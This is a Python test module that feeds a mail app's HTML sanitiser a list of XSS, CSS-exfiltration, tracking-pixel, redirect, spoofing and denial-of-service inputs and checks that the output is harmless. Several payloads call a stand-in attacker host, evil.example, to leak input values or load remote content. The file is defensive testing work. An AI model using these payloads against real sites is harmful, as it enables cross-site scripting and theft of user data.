"""B3: HTML that wants to run, load, send, cover or exhaust. What is shown of it is `cases.mail.html`'s business and has
its own tests; here it comes as mail."""

import base64
from html.parser import HTMLParser

from tests.mailcorpus.case import contains, plain, put

_TAGS = {
    "script",
    "form",
    "input",
    "button",
    "iframe",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "style",
    "svg",
    "math",
}
_TAGS |= {"video", "audio", "frame", "noscript", "template"}
_ATTRIBUTES = {"srcset", "background", "poster", "ping", "style", "srcdoc", "id", "name"}


class _Seen(HTMLParser):
    """Whether anything in it could run, load, send or cover."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.bad += [tag] if tag in _TAGS else []
        for name, value in attrs:
            scheme = (value or "").strip().lower().partition(":")[0]
            if name.startswith(("on", "hx-", "data-hx", "x-", "@", "v-")) or name in _ATTRIBUTES:
                self.bad.append(name)
            if name in {"href", "src"} and scheme not in {"http", "https", "mailto", "tel"}:
                self.bad.append(f"{name}={value}")
            if name == "src" or (name == "target" and "noopener" not in (dict(attrs).get("rel") or "")):
                self.bad.append(name)


def _is_harmless(text: str) -> bool:
    return not _Seen(text).bad


def html(text: str) -> bytes:
    body = base64.encodebytes(f"<p>Hello</p>{text}".encode("utf-8", "surrogatepass"))
    return plain(b"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n", body)


VECTORS = {
    "script": "<script>alert(1)</script>",
    "script_nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onerror": "<img src=x onerror=alert(1)>",
    "svg_onload": "<svg/onload=alert(1)>",
    "svg_use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "math": '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "javascript_link": '<a href="javascript:alert(1)">x</a>',
    "javascript_link_with_a_tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript_link_in_entities": '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    "vbscript_link": '<a href="vbscript:msgbox(1)">x</a>',
    "data_link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "form": '<form action="/cases/7/resolution/"><input name=q><button>Go</button></form>',
    "csrf_field": '<input name="csrfmiddlewaretoken" value="x"><img name="cookie"><a id="location">x</a>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "style_import": "<style>@import url(https://evil.example/x.css);</style>",
    "style_overlay": '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    "style_url": '<div style="background:url(https://evil.example/t.gif)">x</div>',
    "style_exfiltration": '<style>input[value^="a"]{background:url(//evil.example/a)}</style>',
    "remote_image": '<img src="https://evil.example/t.gif" width=1 height=1>',
    "remote_image_without_scheme": '<img src="//evil.example/t.gif">',
    "image_of_ours": '<img src="/admin/logout/"><img src="/api/cases/1/close">',
    "srcset": '<img srcset="https://evil.example/a 1x">',
    "background": '<table background="https://evil.example/t.gif"><tr><td>x</td></tr></table>',
    "poster": '<video poster="https://evil.example/t.gif"></video>',
    "ping": '<a href="https://b.example/" ping="https://evil.example/">x</a>',
    "iframe": '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "htmx": '<div hx-get="/api/cases/" hx-trigger="load" data-hx-post="/x">x</div>',
    "alpine": '<div x-data="{a: alert(1)}" @click="a" v-on:click="a">x</div>',
    "opener": '<a href="https://b.example/" target="_blank" rel="opener">x</a>',
    "conditional_comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "comment_that_never_ends": "<!-- <p>x</p>",
    "tag_that_never_ends": '<p title="',
    "direction": "<p>\u202egnp.exe\u202c \u2066x\u2069</p>",
    "zero_width": "<p>pay\u200bpal</p>",
    "link_that_lies": '<a href="https://evil.example/">https://bank.example/</a>',
    "template_marks": "<p>{{ settings.SECRET_KEY }} {% load x %} ${7*7} #{7*7}</p>",
    "half_surrogate": "<p>\ud800</p>",
    "nul": "<p>a\x00b</p><scr\x00ipt>alert(1)</script>",
    "entities_without_end": "&#x0;&#xD800;&#99999999999;&amp" * 100,
}
for name, vector in VECTORS.items():
    put("B3", f"html_{name}", html(vector), html=_is_harmless, text=contains("Hello"), subject="Hello")

put("B3", "html_two_hundred_thousand_divs", lambda: html("<div>" * 200_000), subject="Hello", large=True)
put("B3", "html_sixty_thousand_tables", lambda: html("<table><tr><td>" * 30_000), subject="Hello", large=True)
put(
    "B3",
    "html_two_hundred_thousand_attributes",
    lambda: html("<p " + "".join(f"a{n}=1 " for n in range(200_000)) + ">x</p>"),
    subject="Hello",
    large=True,
)
put("B3", "html_five_thousand_links", lambda: html('<a href="https://b.example/">x</a>' * 5_001), subject="Hello")
put("B3", "html_a_megabyte_of_less_than", lambda: html("<" * 1_000_000), subject="Hello", large=True)
put("B3", "html_a_megabyte_of_entities", lambda: html("&lt;" * 250_000), subject="Hello", large=True)
put("B3", "html_a_megabyte_of_comments", lambda: html("<!--x" * 200_000), subject="Hello", large=True)
put("B3", "html_a_megabyte_of_open_styles", lambda: html("<b><i><u>" * 100_000 + "x"), subject="Hello", large=True)
put(
    "B3", "html_a_megabyte_of_closing_tags", lambda: html("<div>" * 500 + "</p>" * 200_000), subject="Hello", large=True
)
put(
    "B3",
    "html_three_megabytes",
    lambda: html("<p>Hello you</p>\n" * 200_000),
    html=lambda h: len(h) < 2_000_000,
    count=1,
    large=True,
)
put("B3", "html_that_is_empty", plain(b"Content-Type: text/html\n", b""), text="", html="")
put("B3", "html_that_is_text", plain(b"Content-Type: text/html\n", b"Hello there\n"), text=contains("Hello there"))
put(
    "B3",
    "html_said_to_be_text",
    plain(b"Content-Type: text/plain\n", b"<p>Hello</p><script>x</script>\n"),
    text="<p>Hello</p><script>x</script>\n",
    html="",
)
